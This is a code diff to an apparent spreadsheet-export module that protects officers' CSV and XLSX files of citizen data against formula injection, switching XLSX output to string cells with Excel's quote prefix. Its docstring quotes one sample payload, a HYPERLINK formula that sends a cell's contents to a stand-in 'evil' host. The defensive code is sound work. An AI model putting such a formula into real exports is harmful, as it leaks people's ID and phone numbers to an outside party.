@@ -3,8 +3,10 @@
 Citizen text reaches the officers' spreadsheets: a title such as
 ``=HYPERLINK("https://evil/?"&C2, "klik")`` would otherwise run when the file is opened
 and could send the register's NIK and phone numbers out. A text that begins with one of
-``= + - @``, a tab or a carriage return gets a leading apostrophe, as OWASP advises, and
-in XLSX every text is written as a string cell (openpyxl would make ``=...`` a formula).
+``= + - @``, a tab or a carriage return gets a leading apostrophe in CSV, as OWASP advises. In XLSX
+every text is written as a string cell (openpyxl would make ``=...`` a formula), and such a
+text gets Excel's own "quote prefix" instead of a visible apostrophe: the officer reads
+``+6281234567891`` as it was typed, and the program never evaluates it.
 Numbers, dates and booleans stay what they are.
 """
 
@@ -33,10 +35,10 @@ def xlsx_row(sheet, values: Iterable) -> list:
     write-only sheets (cells bound to the sheet) and normal ones."""
     row = []
     for value in values:
-        value = neutralise(value)
         if isinstance(value, str):
             cell = WriteOnlyCell(sheet, value=value)
             cell.data_type = "s"
+            cell.quotePrefix = value.startswith(FORMULA_STARTS)
             row.append(cell)
         else:
             row.append(value)
